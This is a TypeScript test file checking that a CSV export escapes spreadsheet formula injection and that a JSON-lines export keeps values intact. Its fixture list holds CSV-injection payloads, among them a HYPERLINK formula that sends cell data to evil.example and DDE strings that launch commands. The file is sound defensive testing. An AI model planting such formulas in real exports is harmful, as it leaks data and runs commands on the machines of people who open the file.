import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Row, Value } from '../../../core/exports/export.ts';
import { toCsv, toJsonLines } from '../../../core/exports/write.ts';

const columns = [{ name: 'said', meaning: '' }];

async function* rowsOf(values: readonly Value[]): AsyncGenerator<Row> {
  for (const said of values) yield { said };
}

async function cellsOf(values: readonly Value[]): Promise<string[]> {
  const csv = await text(toCsv({ columns }, rowsOf(values)));
  return (parse(csv, { bom: true }) as string[][]).slice(1).map(([cell = '']) => cell);
}

/** What people have typed into forms to reach whoever opens the export. */
const injections = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

describe('a spreadsheet', () => {
  it.each(injections)('takes %j for text', async (injection) => {
    expect(await cellsOf([injection])).toEqual([`'${injection}`]);
  });

  it('gets no cell that it could take for a formula, whatever people typed', async () => {
    const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ';', '');
    const typed = fc.tuple(start, fc.string()).map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(fc.array(typed, { minLength: 1, maxLength: 20 }), async (values) => {
        const cells = await cellsOf(values);
        expect(cells).toHaveLength(values.length);
        expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
        expect(cells.map((cell) => cell.replace(/^'(?=[=+\-@\t\r])/, ''))).toEqual(values);
      }),
    );
  });

  it('keeps numbers, lines, quotes, separators and letters as they are', async () => {
    const values = [-5, 2.5, 'two\nlines', 'a "b", c; d', 'Ёжик, příliš', true, null, ['a', 'b']];
    const cells = ['-5', '2.5', 'two\nlines', 'a "b", c; d', 'Ёжик, příliš', 'true', '', 'a|b'];
    expect(await cellsOf(values)).toEqual(cells);
  });

  it('knows by the mark that it is UTF-8', async () => {
    const [first] = await Readable.from(toCsv({ columns }, rowsOf(['x']))).toArray();
    expect(Buffer.from(first as Buffer).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });
});

describe('JSON lines', () => {
  it('say exactly what was said, one row a line', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary' })), async (values) => {
        const lines = (await text(toJsonLines(rowsOf(values)))).split('\n').slice(0, -1);
        expect(lines.map((line) => (JSON.parse(line) as Row)['said'])).toEqual(values);
      }),
    );
  });
});
